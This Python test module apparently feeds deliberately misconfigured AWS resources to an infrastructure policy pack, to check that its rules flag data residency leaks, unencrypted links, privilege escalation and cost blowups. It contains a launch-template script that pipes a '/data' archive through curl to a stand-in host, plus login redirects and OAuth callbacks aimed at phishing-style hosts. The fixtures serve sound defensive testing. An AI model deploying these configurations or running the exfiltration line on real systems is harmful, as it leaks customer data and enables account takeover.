"""Attacks on AWS, thought up with the code of the pack at hand and without sight of the other attacks (2026-11-28)."""

import json

from ..blind import KEY, ME, TAGS, aws, policy, role, statement
from ..harness import Given
from . import Attack

STACK = Given("pulumi:pulumi:Stack", {}, "falaj-prod-uae")
RES = ("FJ-RES-", "FJ-ESC-", "FJ-IDN-")
ENC = ("FJ-ENC-", "FJ-ESC-")
EXP = ("FJ-EXP-", "FJ-IDN-", "FJ-RES-003", "FJ-RES-113", "FJ-ESC-")
IDN = ("FJ-IDN-", "FJ-ESC-")
MONEY = ("FJ-COST-", "FJ-ESC-")
ESC = ("FJ-ESC-",)
HARM = {
    "abroad": "data of customers is sent to a host or store of a stranger, wherever that is",
    "reach": "a stranger's network or identity reaches what is private",
}
ROLE = f"arn:aws:iam::{ME}:role/worker"
ADMIN = "arn:aws:iam::aws:policy/AdministratorAccess"
CALL = "arn:aws:scheduler:::aws-sdk"
CODE = {"role": ROLE, "runtime": "python3.13", "handler": "app.main", "kmsKeyArn": KEY, "tags": TAGS}
BUILD = {
    "name": "build", "serviceRole": ROLE, "encryptionKey": KEY, "artifacts": {"type": "NO_ARTIFACTS"}, "tags": TAGS,
    "environment": {"computeType": "BUILD_GENERAL1_SMALL", "type": "LINUX_CONTAINER", "image": "aws/codebuild/al2023"},
}  # fmt: skip
OPEN_API = {
    "openapi": "3.0.1",
    "info": {"title": "payments", "version": "1"},
    "paths": {"/pay": {"post": {
        "security": [{"sigv4": []}],
        "x-amazon-apigateway-integration": {"type": "http_proxy", "httpMethod": "POST",
                                            "uri": "https://intake.collector-app.io/pay"}}}},
    "components": {"securitySchemes": {"sigv4": {"type": "apiKey", "name": "Authorization", "in": "header",
                                                 "x-amazon-apigateway-authtype": "awsSigv4"}}},
}  # fmt: skip
COPY = {
    "StartAt": "Copy",
    "States": {"Copy": {"Type": "Task", "End": True, "Resource": "arn:aws:states:::aws-sdk:s3:copyObject",
                        "Parameters": {"Bucket": "my-own-archive", "Key": "d", "CopySource": "customers/d"}}},
}  # fmt: skip
OVERRIDE = {
    "StartAt": "Build",
    "States": {"Build": {"Type": "Task", "End": True, "Resource": "arn:aws:states:::codebuild:startBuild.sync",
                         "Parameters": {"ProjectName": "ci", "BuildspecOverride": "version: 0.2\nphases: {build: "
                                        "{commands: [python make_everything.py]}}"}}},
}  # fmt: skip
MACHINE = {"roleArn": ROLE, "tags": TAGS, "encryptionConfiguration": {"type": "CUSTOMER_MANAGED_KMS_KEY",
                                                                      "kmsKeyId": KEY}}  # fmt: skip


def _schedule(call: str, request: dict[str, object]) -> Given:
    return aws("scheduler/Schedule", {
        "scheduleExpression": "rate(1 hour)", "flexibleTimeWindow": {"mode": "OFF"}, "kmsKeyArn": KEY,
        "target": {"arn": f"{CALL}:{call}", "roleArn": ROLE, "input": json.dumps(request)}})  # fmt: skip


ATTACKS = (
    Attack("a bank's public name is a CNAME of a vendor's host", RES, (aws("route53/Record", {
        "zoneId": "Z1", "name": "api.example.ae", "type": "CNAME", "ttl": 60, "records": ["bank.edge-saas.io"]}),),
        "critical", HARM["abroad"]),
    Attack("a function stores rows in a hosted database by PGHOST", RES, (aws("lambda/Function", {
        **CODE, "environment": {"variables": {"PGHOST": "ep-cool-sun.aws.neon.tech", "PGSSLMODE": "verify-full"}}}),),
        "critical", HARM["abroad"]),
    Attack("a task of ECS writes to a hosted cluster by MONGODB_URI", RES, (aws("ecs/TaskDefinition", {
        "family": "app", "tags": TAGS, "containerDefinitions": json.dumps([{
            "name": "app", "image": f"{ME}.dkr.ecr.me-central-1.amazonaws.com/a:1", "essential": True,
            "environment": [{"name": "MONGODB_URI", "value": "mongodb+srv://c0.ab12c.mongodb.net/customers"}]}])}),),
        "critical", HARM["abroad"]),
    Attack("an imported definition of an API forwards payments to a web host", RES, (aws("apigateway/RestApi", {
        "name": "payments", "body": json.dumps(OPEN_API), "tags": TAGS,
        "endpointConfiguration": {"types": "REGIONAL"}}),), "critical", HARM["abroad"]),
    Attack("a rule of a load balancer redirects customers to another host", RES, (aws("lb/ListenerRule", {
        "listenerArn": f"arn:aws:elasticloadbalancing:me-central-1:{ME}:listener/app/a/1/2", "tags": TAGS,
        "conditions": [{"pathPattern": {"values": ["/login*"]}}],
        "actions": [{"type": "redirect", "redirect": {"host": "login.bank-signin.io", "statusCode": "HTTP_302",
                                                      "protocol": "HTTPS", "port": "443"}}]}),),
        "major", "customers type their passwords at a stranger's host"),
    Attack("a table of the catalogue lies in an unlisted bucket", RES, (aws("glue/CatalogTable", {
        "databaseName": "sales", "name": "customers", "tableType": "EXTERNAL_TABLE",
        "storageDescriptor": {"location": "s3://their-lake/customers/"}}),),
        "critical", "INSERT and CTAS of every engine write the rows there"),
    Attack("a notebook of Flink SQL writes to a broker on the web", RES, (aws("kinesisanalyticsv2/Application", {
        "runtimeEnvironment": "FLINK-1_20", "serviceExecutionRole": ROLE, "name": "copy", "tags": TAGS,
        "applicationConfiguration": {"applicationCodeConfiguration": {
            "codeContentType": "PLAINTEXT", "codeContent": {"textContent":
                "CREATE TABLE o (a STRING) WITH ('connector'='kafka',"
                "'properties.bootstrap.servers'='b1.kafka-host.io:9093')"}}}}),), "critical", HARM["abroad"]),
    Attack("a broker asks a directory on the web for passwords", RES, (aws("mq/Broker", {
        "brokerName": "b", "engineType": "ActiveMQ", "engineVersion": "5.18", "hostInstanceType": "mq.m5.large",
        "publiclyAccessible": False, "authenticationStrategy": "ldap", "tags": TAGS,
        "encryptionOptions": {"useAwsOwnedKey": False, "kmsKeyId": KEY}, "users": [],
        "ldapServerMetadata": {"hosts": ["ldap.directory-host.io"], "roleBase": "dc=x", "userBase": "dc=x",
                               "roleSearchMatching": "(m={0})", "userSearchMatching": "(u={0})"}}),),
        "major", "the stranger's directory sees every password and decides who is an administrator"),
    Attack("an endpoint leads to the service of an unknown provider", RES, (aws("ec2/VpcEndpoint", {
        "vpcId": "vpc-1", "vpcEndpointType": "Interface", "tags": TAGS, "subnetIds": ["subnet-1"],
        "securityGroupIds": ["sg-1"],
        "serviceName": "com.amazonaws.vpce.me-central-1.vpce-svc-0a1b2c3d4e5f67890"}),),
        "critical", "a private path for data into a stranger's account, which no firewall sees"),
    Attack("a resource of VPC Lattice is a name on the web", RES, (aws("vpclattice/ResourceConfiguration", {
        "name": "db", "resourceGatewayIdentifier": "rgw-1", "portRanges": ["5432"], "protocol": "TCP", "tags": TAGS,
        "resourceConfigurationDefinition": {"dnsResource": {"domainName": "db.hosted-postgres.io",
                                                            "ipAddressType": "IPV4"}}}),), "major", HARM["abroad"]),
    Attack("a workflow copies objects to an unlisted bucket by an SDK call", RES, (aws("sfn/StateMachine", {
        **MACHINE, "definition": json.dumps(COPY)}),), "critical", HARM["abroad"]),
    Attack("a schedule exports a table to an unlisted bucket", RES, (_schedule("dynamodb:exportTableToPointInTime", {
        "TableArn": f"arn:aws:dynamodb:me-central-1:{ME}:table/customers", "S3Bucket": "my-own-archive"}),),
        "critical", HARM["abroad"]),
    Attack("the first start of a machine uploads a dump by curl", RES, (aws("ec2/LaunchTemplate", {
        "metadataOptions": {"httpTokens": "required"}, "tags": TAGS,
        "userData": "#!/bin/sh\ntar c /data | curl -T - https://drop.file-intake.io/in\n"}),),
        "critical", HARM["abroad"]),
    Attack("push notifications carry balances through Google", RES, (aws("sns/PlatformApplication", {
        "name": "app", "platform": "GCM", "platformCredential": "x",
        "eventDeliveryFailureTopicArn": f"arn:aws:sns:me-central-1:{ME}:t"}),),
        "major", "the text of each message is processed by a vendor outside the country"),
    Attack("an add-on of EKS resolves names at public resolvers", RES, (aws("eks/Addon", {
        "clusterName": "c", "addonName": "coredns", "tags": TAGS, "configurationValues": json.dumps({
            "corefile": ".:53 {\n  forward . 185.228.168.9\n}"})}),),
        "major", "the resolver decides which host each name is, and sees all of them"),
    Attack("an add-on of the marketplace sends what it observes to its vendor", ESC, (aws("eks/Addon", {
        "clusterName": "c", "addonName": "datadog_operator", "tags": TAGS}),),
        "critical", "an operator with rights in the cluster sends logs and traces to the vendor's site"),
    Attack("Airflow keeps the logs of tasks in an unlisted bucket", RES, (aws("mwaa/Environment", {
        "dagS3Path": "dags", "executionRoleArn": ROLE, "sourceBucketArn": "arn:aws:s3:::own", "kmsKey": KEY,
        "networkConfiguration": {"securityGroupIds": ["sg-1"], "subnetIds": ["a", "b"]}, "tags": TAGS,
        "airflowConfigurationOptions": {"logging.remote_base_log_folder": "s3://their-lake/logs",
                                        "metrics.statsd_host": "stats.collector-app.io"}}),
        aws("s3/Bucket", {"bucket": "own", "tags": TAGS}, "own")), "critical", HARM["abroad"]),
    Attack("messages of partners are sent without encryption and signature", ENC, (aws("transfer/Connector", {
        "accessRole": ROLE, "url": "https://partner.example.ae", "tags": TAGS, "as2Config": {
            "compression": "DISABLED", "encryptionAlgorithm": "NONE", "signingAlgorithm": "NONE",
            "localProfileId": "p-1", "partnerProfileId": "p-2", "mdnResponse": "NONE"}}),),
        "major", "whoever is on the way reads and changes the files"),
    Attack("a migration to Redis is in plaintext", ENC, (aws("dms/Endpoint", {
        "endpointId": "r", "endpointType": "target", "engineName": "redis", "kmsKeyArn": KEY, "tags": TAGS,
        "redisSettings": {"serverName": "cache.example.ae", "port": 6379, "authType": "none",
                          "sslSecurityProtocol": "plaintext"}}),), "major", "the rows cross the network unencrypted"),
    Attack("a line to the data centre is not encrypted", ENC, (aws("directconnect/Connection", {
        "bandwidth": "10Gbps", "location": "EqDX2", "requestMacsec": True, "encryptionMode": "no_encrypt",
        "tags": TAGS}),), "minor", "the carrier of the line reads what crosses it"),
    Attack("an attachment of a stranger to the transit gateway is accepted", EXP, (
        aws("ec2transitgateway/VpcAttachmentAccepter", {"transitGatewayAttachmentId": "tgw-attach-0123", "tags": TAGS}),
    ), "critical", HARM["reach"]),
    Attack("a peering of transit gateways, always abroad, is accepted", (*RES, "FJ-EXP-"), (
        aws("ec2transitgateway/PeeringAttachmentAccepter", {
            "transitGatewayAttachmentId": "tgw-attach-0456", "tags": TAGS}),),
        "critical", "there is one region in the country, so the network of another region reaches this one"),
    Attack("another domain's search of the indexes is accepted", EXP, (
        aws("opensearch/InboundConnectionAccepter", {"connectionId": "c-0123456789"}),),
        "critical", "the other domain reads the indexes across clusters"),
    Attack("everybody with a Google account signs in to the pool", EXP, (aws("cognito/IdentityProvider", {
        "userPoolId": "me-central-1_a", "providerName": "Google", "providerType": "Google", "providerDetails": {
            "client_id": "1.apps.googleusercontent.com", "client_secret": "x", "authorize_scopes": "openid"}}),),
        "critical", "strangers become users of the application"),
    Attack("tokens of users are sent to a page of a stranger", EXP, (aws("cognito/UserPoolClient", {
        "userPoolId": "me-central-1_a", "allowedOauthFlows": ["code"], "allowedOauthScopes": ["openid"],
        "allowedOauthFlowsUserPoolClient": True, "callbackUrls": ["https://cb.bank-signin.io/done"]}),),
        "major", "the page gets the code of each user who follows a link to the real sign-in"),
    Attack("risk checks of sign-in skip every address", EXP, (aws("cognito/RiskConfiguration", {
        "userPoolId": "me-central-1_a", "riskExceptionConfiguration": {"skippedIpRangeLists": [
            "0.0.0.0/1", "128.0.0.0/1"]}}),), "minor", "stolen passwords are tried without being noticed"),
    Attack("a budget action makes a role an administrator at the first dirham", IDN, (aws("budgets/BudgetAction", {
        "budgetName": "b", "actionType": "APPLY_IAM_POLICY", "approvalModel": "AUTOMATIC", "executionRoleArn": ROLE,
        "notificationType": "ACTUAL", "actionThreshold": {
            "actionThresholdType": "ABSOLUTE_VALUE", "actionThresholdValue": 0.1},
        "definition": {"iamActionDefinition": {"policyArn": ADMIN, "roles": ["worker"]}}, "tags": TAGS,
        "subscribers": [{"address": "a@example.ae", "subscriptionType": "EMAIL"}]}),),
        "critical", "the policy is attached by AWS after the review"),
    Attack("a user joins the group of administrators of another stack", IDN, (aws("iam/UserGroupMembership", {
        "user": "contractor", "groups": ["Administrators"]}),), "critical", "the user becomes an administrator"),
    Attack("guests of an identity pool assume a role", IDN, (role(
        {"Federated": "cognito-identity.amazonaws.com"},
        {"StringEquals": {"cognito-identity.amazonaws.com:aud": "me-central-1:11111111-2222-3333-4444-555555555555"},
         "ForAnyValue:StringLike": {"cognito-identity.amazonaws.com:amr": "unauthenticated"}},
        "sts:AssumeRoleWithWebIdentity"),), "critical", "everybody on the internet gets credentials of the role"),
    Attack("a role reads users, logs and results of queries everywhere", IDN, (policy(statement(
        ["cognito-idp:ListUsers", "logs:FilterLogEvents", "athena:GetQueryResults"])),),
        "major", "one identity reads data of every team"),
    Attack("a scheduled action makes a warehouse a hundred nodes large", MONEY,
        (STACK, aws("redshift/ScheduledAction", {
        "name": "grow", "iamRole": ROLE, "schedule": "at(2027-01-01T00:00:00)", "targetAction": {"resizeCluster": {
            "clusterIdentifier": "w", "nodeType": "ra3.16xlarge", "numberOfNodes": 100}}}),),
        "critical", "about AED 3.5 million a month, which no estimate contains"),
    Attack("a table may scale to a million units", MONEY, (STACK, aws("appautoscaling/Target", {
        "serviceNamespace": "dynamodb", "resourceId": "table/orders", "tags": TAGS, "minCapacity": 500000,
        "maxCapacity": 1000000, "scalableDimension": "dynamodb:table:WriteCapacityUnits"}),),
        "critical", "half a million write units an hour are charged whether they are used or not"),
    Attack("a function may call itself without end", MONEY, (STACK, aws("lambda/FunctionRecursionConfig", {
        "functionName": "resize", "recursiveLoop": "Allow"}),),
        "major", "a loop of calls runs until somebody notices the bill"),
    Attack("a build deploys by the Serverless Framework", ESC, (aws("codebuild/Project", {
        **BUILD, "source": {"type": "CODECOMMIT", "location": "https://git-codecommit.me-central-1.amazonaws.com/v1/r",
                            "buildspec": "version: 0.2\nphases: {build: {commands: [npx sls deploy]}}"}}),),
        "major", "whatever the repository describes is created, and no guardrail sees it"),
    Attack("a workflow replaces the instructions of a build", ESC, (aws("sfn/StateMachine", {
        **MACHINE, "definition": json.dumps(OVERRIDE)}),),
        "major", "the build's role runs what the workflow says instead of what was reviewed"),
    Attack("a pipeline publishes files to an unlisted bucket", RES, (aws("codepipeline/Pipeline", {
        "roleArn": ROLE, "tags": TAGS, "artifactStores": [{"location": "own", "type": "S3", "encryptionKey": {
            "id": KEY, "type": "KMS"}}], "stages": [{"name": "Deploy", "actions": [{
                "name": "d", "category": "Deploy", "owner": "AWS", "provider": "S3", "version": "1",
                "inputArtifacts": ["in"], "configuration": {"BucketName": "their-lake", "Extract": "true"}}]}]}),
        aws("s3/Bucket", {"bucket": "own", "tags": TAGS}, "own")), "major", HARM["abroad"]),
)  # fmt: skip
